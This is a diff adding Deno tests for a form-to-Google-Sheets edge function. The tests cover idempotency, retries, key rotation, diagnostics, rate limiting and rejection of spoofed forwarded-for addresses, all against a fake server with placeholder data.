+
+const getStatus = (submissionId: string): Request =>
+  new Request(`${FUNCTION_URL}/submissions/${submissionId}`, {
+    method: "GET",
+    headers: {
+      Authorization: `Bearer ${ANON_KEY}`,
+      "x-forwarded-for": "203.0.113.10",
+    },
+  });
+
+sheetsTest(
+  "accepts submissions with 202 and reports their status",
+  async () => {
+    const handler = newHandler();
+    const accept = async (data: Record<string, unknown>) => {
+      const response = await handler(
+        post({ data }, { Prefer: "respond-async" }),
+      );
+      assertEquals(response.status, 202);
+      const body = await response.json();
+      assertEquals(body.status, "queued");
+      return body.submissionId as string;
+    };
+
+    const writtenId = await accept(userSignup());
+    const written = await (await handler(getStatus(writtenId))).json();
+    assertEquals(written.state, "written");
+    assertEquals(written.operation, "appended");
+    assertEquals(written.tabName, "User Signups");
+    assertEquals(written.rowNumber, 2);
+    assertMatch(written.rowUrl, /#gid=\d+&range=A2$/);
+    assertEquals(fake.getRows(SHEET_ID, "User Signups").length, 2);
+
+    fake.failNext({ method: "POST", pathIncludes: ":append", status: 500 });
+    const failedId = await accept(userSignup("grace@example.com"));
+    const failed = await (await handler(getStatus(failedId))).json();
+    assertEquals(failed.state, "failed");
+    assertMatch(failed.error, /Error updating sheet/);
+    assertEquals(failed.queuedForReplay, false);
+
+    const missing = await handler(getStatus(crypto.randomUUID()));
+    assertEquals(missing.status, 404);
+    await missing.body?.cancel();
+  },
+);
+
+sheetsTest("reports Google server errors to Slack", async () => {
+  fake.failNext({ method: "POST", pathIncludes: ":append", status: 500 });
+
+  const response = await newHandler()(post({ data: userSignup() }));
+  const body = await response.json();
+
+  assertEquals(response.status, 500);
+  assertMatch(body.error, /Error updating sheet: .*\(500\)/);
+  assertEquals(body.queuedForReplay, false);
+  assertEquals(fake.slackMessages.length, 1);
+  assertMatch(fake.slackMessages[0], /Error updating Google Sheet/);
+});
+
+sheetsTest(
+  "reuses tokens and spreadsheet metadata in warm isolates",
+  async () => {
+    Deno.env.set("SHEET_METADATA_TTL_SECONDS", "300");
+    try {
+      const handler = newHandler();
+      const submit = async (email: string) => {
+        const response = await handler(post({ data: userSignup(email) }));
+        assertEquals(response.status, 200);
+        await response.body?.cancel();
+      };
+      const metadataRequests = () =>
+        fake.requests.filter((request) =>
+          request.method === "GET" && request.path.endsWith(SHEET_ID)
+        ).length;
+
+      await submit("ada@example.com");
+      assertEquals(metadataRequests(), 1);
+      await submit("grace@example.com");
+      assertEquals(metadataRequests(), 1);
+      assertEquals(
+        fake.requests.filter((request) => request.path === "/token").length,
+        0,
+      );
+
+      // The tab was deleted by hand: the stale metadata is reloaded
+      fake.reset();
+      fake.addSpreadsheet(SHEET_ID);
+      await submit("katherine@example.com");
+      assertEquals(fake.getRows(SHEET_ID, "User Signups").length, 2);
+    } finally {
+      Deno.env.set("SHEET_METADATA_TTL_SECONDS", "0");
+    }
+  },
+);
+
+sheetsTest(
+  "writes with each spreadsheet's service account and rotated keys",
+  async () => {
+    const salesAccount = (suffix: string) =>
+      `sales-${suffix}@example.iam.gserviceaccount.com`;
+    const key = async (clientEmail: string) =>
+      JSON.stringify({
+        client_email: clientEmail,
+        private_key: await generatePrivateKeyPem(),
+      });
+    Deno.env.set(
+      "GOOGLE_SERVICE_ACCOUNTS",
+      JSON.stringify({
+        sales: {
+          primary: await key(salesAccount("old")),
+          secondary: await key(salesAccount("new")),
+          sheetIds: [SHEET_ID],
+        },
+      }),
+    );
+    // The old key was deleted in Google Cloud before the secret was updated
+    fake.revokeServiceAccount(salesAccount("old"));
+
+    try {
+      const handler = newHandler();
+      for (const email of ["ada@example.com", "grace@example.com"]) {
+        const response = await handler(post({ data: userSignup(email) }));
+        assertEquals(response.status, 200);
+        await response.body?.cancel();
+      }
+
+      assertEquals(fake.getRows(SHEET_ID, "User Signups").length, 3);
+      // The rejected key is not tried again, and the token is reused
+      assertEquals(fake.tokenRequests(), [
+        salesAccount("old"),
+        salesAccount("new"),
+      ]);
+    } finally {
+      Deno.env.delete("GOOGLE_SERVICE_ACCOUNTS");
+    }
+  },
+);
+
+sheetsTest("retries token requests that fail with a server error", async () => {
+  const clientEmail = "token-retry@example.iam.gserviceaccount.com";
+  Deno.env.set(
+    "GOOGLE_SERVICE_ACCOUNTS",
+    JSON.stringify({
+      sales: {
+        primary: JSON.stringify({
+          client_email: clientEmail,
+          private_key: await generatePrivateKeyPem(),
+        }),
+        sheetIds: [SHEET_ID],
+      },
+    }),
+  );
+  fake.failNext({ pathIncludes: "/token", status: 503 });
+
+  try {
+    const response = await newHandler()(
+      post({ data: userSignup("ada@example.com") }),
+    );
+    assertEquals(response.status, 200);
+    await response.body?.cancel();
+
+    assertEquals(fake.getRows(SHEET_ID, "User Signups").length, 2);
+    assertEquals(fake.tokenRequests(), [clientEmail, clientEmail]);
+  } finally {
+    Deno.env.delete("GOOGLE_SERVICE_ACCOUNTS");
+  }
+});
+
+sheetsTest("reports diagnostics for admin API keys", async () => {
+  const getDiagnostics = (apiKey: string) =>
+    newHandler()(
+      new Request(`${FUNCTION_URL}/diagnostics`, {
+        headers: { "X-Api-Key": apiKey, "x-forwarded-for": "203.0.113.10" },
+      }),
+    );
+  fake.addSpreadsheet(SHEET_ID, {
+    "User Signups": [USER_SIGNUP_HEADERS.slice(0, 4)],
+  });
+
+  await withApiKeys(async () => {
+    const forbidden = await getDiagnostics("website-key");
+    assertEquals(forbidden.status, 403);
+    await forbidden.body?.cancel();
+
+    const failing = await getDiagnostics("dashboard-key");
+    const report = await failing.json();
+    assertEquals(failing.status, 503);
+    assertEquals(report.success, false);
+    assertEquals(
+      report.checks.map((
+        check: { check: string; status: string },
+      ) => `${check.check}: ${check.status}`),
+      [
+        "credentials: pass",
+        "routes: pass",
+        "token: pass",
+        "spreadsheet: pass",
+        "tab: pass",
+        "header: fail",
+      ],
+    );
+    assertEquals(report.checks[5].missingColumns, ["Signup Date"]);
+    // Diagnostics never write
+    assert(
+      !fake.requests.some((request) =>
+        request.method === "POST" && request.path !== "/token"
+      ),
+    );
+
+    fake.addSpreadsheet(SHEET_ID, { "User Signups": [USER_SIGNUP_HEADERS] });
+    const passing = await getDiagnostics("dashboard-key");
+    assertEquals(passing.status, 200);
+    assertEquals((await passing.json()).success, true);
+  });
+});
+
+Deno.test("answers liveness checks without authentication", async () => {
+  const response = await newHandler()(
+    new Request(`${FUNCTION_URL}/health`),
+  );
+  assertEquals(response.status, 200);
+  assertEquals(await response.json(), { status: "ok" });
+});
+
+Deno.test("serves the OpenAPI document kept in openapi.json", async () => {
+  const response = await newHandler()(
+    new Request(`${FUNCTION_URL}/openapi.json`),
+  );
+  assertEquals(response.status, 200);
+  // Run `npm run openapi` after changing a payload or response
+  assertEquals(await response.json(), openApiSnapshot);
+});
+
+sheetsTest("submits through the typed client", async () => {
+  const handler = newHandler();
+  const client = createFormClient({
+    baseUrl: FUNCTION_URL,
+    anonKey: ANON_KEY,
+    fetch: (input, init) => handler(new Request(input, init)),
+  });
+
+  const written = await client.submit({
+    dataType: "user-signup",
+    email: "ada@example.com",
+    firstName: "Ada",
+    lastName: "Lovelace",
+    createdDate: "2026-10-01",
+  });
+  assertEquals(written.success, true);
+  assertEquals(fake.getRows(SHEET_ID, "User Signups").length, 2);
+
+  const error = await client.submit({
+    dataType: "user-signup",
+    email: "not-an-email",
+    firstName: "Ada",
+    lastName: "Lovelace",
+    createdDate: "2026-10-01",
+  }).catch((error) => error);
+  assert(error instanceof FormApiError);
+  assertEquals(error.status, 422);
+  assertEquals(error.fieldErrors.map(({ field }) => field), ["email"]);
+});
+
+// Handler that remembers idempotency keys, as with the database
+const idempotentHandler = () =>
+  createHandler({
+    rateLimiter: createRateLimiter(
+      createMemoryRateLimitStore(),
+      testRateLimits,
+    ),
+    corsPolicy: { allowedOrigins: ["*"] },
+    idempotencyStore: createMemoryIdempotencyStore(),
+  });
+
+sheetsTest("returns the stored result for repeated submissions", async () => {
+  const handler = idempotentHandler();
+  const withKey = (email: string) =>
+    post({ data: userSignup(email) }, { "Idempotency-Key": "signup-1" });
+
+  const first = await handler(withKey("ada@example.com"));
+  assertEquals(first.status, 200);
+  assertEquals((await first.json()).replayed, false);
+
+  const repeat = await handler(withKey("ada@example.com"));
+  assertEquals(repeat.status, 200);
+  const repeatBody = await repeat.json();
+  assertEquals(repeatBody.replayed, true);
+  assertEquals(repeatBody.operation, "appended");
+
+  // Without a header, identical data is a repeat too
+  const doubleClick = () => post({ data: userSignup("grace@example.com") });
+  await (await handler(doubleClick())).body?.cancel();
+  assertEquals((await (await handler(doubleClick())).json()).replayed, true);
+
+  const reused = await handler(withKey("katherine@example.com"));
+  assertEquals(reused.status, 422);
+  assertMatch((await reused.json()).error, /different submission/);
+  assertEquals(fake.getRows(SHEET_ID, "User Signups").length, 3);
+});
+
+sheetsTest("scopes idempotency keys to the API client", async () => {
+  await withApiKeys(async () => {
+    const handler = idempotentHandler();
+    const send = (apiKey: string, data: unknown) =>
+      handler(
+        new Request(FUNCTION_URL, {
+          method: "POST",
+          headers: {
+            "X-Api-Key": apiKey,
+            "Idempotency-Key": "shared-key",
+            "Content-Type": "application/json",
+          },
+          body: JSON.stringify({ data }),
+        }),
+      );
+
+    const website = await send("website-key", {
+      dataType: "live-event",
+      name: "Katherine Johnson",
+      email: "katherine@example.com",
+      phoneNumber: "757-555-0101",
+      estimatedAttendees: 120,
+    });
+    assertEquals(website.status, 200);
+    await website.body?.cancel();
+
+    const dashboard = await send("dashboard-key", userSignup());
+    assertEquals(dashboard.status, 200);
+    assertEquals((await dashboard.json()).replayed, false);
+    assertEquals(fake.getRows(SHEET_ID, "User Signups").length, 2);
+  });
+});
+
+sheetsTest("answers concurrent repeats with 409", async () => {
+  const handler = idempotentHandler();
+  const responses = await Promise.all([
+    handler(post({ data: userSignup() }, { "Idempotency-Key": "twice" })),
+    handler(post({ data: userSignup() }, { "Idempotency-Key": "twice" })),
+  ]);
+
+  assertEquals(responses.map((response) => response.status).sort(), [
+    200,
+    409,
+  ]);
+  for (const response of responses) {
+    await response.body?.cancel();
+  }
+  assertEquals(fake.getRows(SHEET_ID, "User Signups").length, 2);
+});
+
+sheetsTest("retries transient Google errors", async () => {
+  fake.failNext({ method: "GET", pathIncludes: SHEET_ID, status: 503 });
+  fake.failNext({ method: "POST", pathIncludes: ":append", status: 429 });
+
+  const response = await newHandler()(post({ data: userSignup() }));
+  const body = await response.json();
+
+  assertEquals(response.status, 200);
+  assertEquals(body.retries, 2);
+  assertEquals(fake.getRows(SHEET_ID, "User Signups").length, 2);
+  assertEquals(fake.slackMessages.length, 0);
+});
+
+sheetsTest("reports Google quota errors to Slack", async () => {
+  // Fails every attempt of the retry policy
+  fake.failNext({ method: "GET", pathIncludes: SHEET_ID, status: 429 }, 4);
+
+  const response = await newHandler()(post({ data: userSignup() }));
+  const body = await response.json();
+
+  assertEquals(response.status, 500);
+  assertEquals(body.error, "Failed to load spreadsheet");
+  assertMatch(body.details, /\(429\)/);
+  assertEquals(body.retries, 3);
+  assertEquals(fake.slackMessages.length, 1);
+  assertMatch(fake.slackMessages[0], /Failed to load Google Sheet/);
+});
+
+sheetsTest("rate limits clients per route", async () => {
+  const handler = newHandler({
+    ...testRateLimits,
+    routes: { submit: { limit: 1, windowSeconds: 60 } },
+  });
+
+  const first = await handler(post({ data: userSignup() }));
+  assertEquals(first.status, 200);
+  await first.body?.cancel();
+
+  const second = await handler(post({ data: userSignup() }));
+  assertEquals(second.status, 429);
+  assertEquals(second.headers.get("RateLimit-Limit"), "1");
+  assert(Number(second.headers.get("Retry-After")) > 0);
+  await second.body?.cancel();
+});
+
+sheetsTest("ignores client-supplied forwarded addresses", async () => {
+  const handler = newHandler({
+    ...testRateLimits,
+    routes: { submit: { limit: 1, windowSeconds: 60 } },
+    allowlist: ["198.51.100.7"],
+  });
+  // The proxy appends the real address after whatever the client sent
+  const spoofed = (claimed: string) =>
+    post({ data: userSignup() }, {
+      "x-forwarded-for": `${claimed}, 203.0.113.10`,
+    });
+
+  const first = await handler(spoofed("192.0.2.1"));
+  assertEquals(first.status, 200);
+  await first.body?.cancel();
+
+  for (const claimed of ["192.0.2.2", "198.51.100.7"]) {
+    const response = await handler(spoofed(claimed));
+    assertEquals(response.status, 429);
+    await response.body?.cancel();
+  }
+});
+
+Deno.test({
+  name: "stop the fake Google Sheets server",
+  fn: () => fake.close(),
+  sanitizeResources: false,
+  sanitizeOps: false,
+});